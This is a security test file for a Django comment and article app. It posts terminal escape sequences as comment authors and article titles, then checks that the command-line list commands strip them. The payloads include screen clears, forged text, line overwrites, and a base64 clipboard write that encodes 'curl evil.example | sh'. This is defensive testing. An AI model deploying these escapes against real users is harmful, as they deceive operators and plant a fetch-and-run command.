"""What the command line prints about visitors' and imported text: a moderator reading
``broadsheet comments list`` or ``broadsheet articles list`` in a terminal must not have
escape sequences from a comment or a title run there (retitling the window, moving the
cursor over earlier lines, writing the clipboard)."""

from __future__ import annotations

import re
from io import StringIO

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse

from broadsheet.comments.models import Comment, DiscussionSettings
from broadsheet.comments.spam import form_timestamp
from tests.factories import ArticleFactory, AuthorFactory
from tests.security import tally
from tests.security.browsing import staff_client
from tests.security.payloads import CONTROL_OBFUSCATED

TERMINAL_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
ESCAPES = [
    "Ada\x1b]0;owned\x07",
    "\x1b[2J\x1b[HAll comments approved.",
    "fine\x1b[1A\x1b[2Kreplaced line",
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07clipboard",
    "\x9b31mred",
    *CONTROL_OBFUSCATED,
]


def printed(*args: str) -> str:
    out = StringIO()
    call_command(*args, stdout=out, stderr=StringIO())
    return out.getvalue()


@pytest.mark.django_db
def test_comments_list_prints_no_terminal_escapes_from_visitors() -> None:
    DiscussionSettings.objects.update_or_create(
        pk=1, defaults={"min_seconds_to_write": 0, "flood_seconds": 0, "hourly_limit_per_ip": 0}
    )
    article = ArticleFactory()
    client = Client()
    for number, text in enumerate(ESCAPES):
        client.post(
            reverse("comments:post"),
            {
                "comment_post_ID": str(article.pk),
                "comment_parent": "0",
                "fax_number": "",
                "form_token": form_timestamp.issue(article.pk),
                "email": f"r{number}@example.org",
                "author": text,
                "comment": f"{text} ({number})",
            },
        )
    tally.payloads_tried("CLI comments list: author and comment", len(ESCAPES))
    assert Comment.objects.exists()
    output = printed("comments", "list")
    leaks = [line for line in output.splitlines() if TERMINAL_CONTROLS.search(line)]
    assert not leaks, f"{len(leaks)} lines carry terminal controls: {leaks[:5]!r}"


@pytest.mark.django_db
def test_articles_list_prints_no_terminal_escapes_from_titles() -> None:
    admin = staff_client()
    author = AuthorFactory()
    for number, text in enumerate(ESCAPES):
        admin.post(
            reverse("admin:content_article_add"),
            {
                "title": text,
                "slug": f"escape-{number}",
                "body_format": "markdown",
                "body": "x",
                "status": "draft",
                "author": str(author.pk),
                "comments_open": "on",
            },
        )
    tally.payloads_tried("CLI articles list: title (typed in the admin)", len(ESCAPES))
    output = printed("articles", "list")
    leaks = [line for line in output.splitlines() if TERMINAL_CONTROLS.search(line)]
    assert not leaks, f"{len(leaks)} lines carry terminal controls: {leaks[:5]!r}"
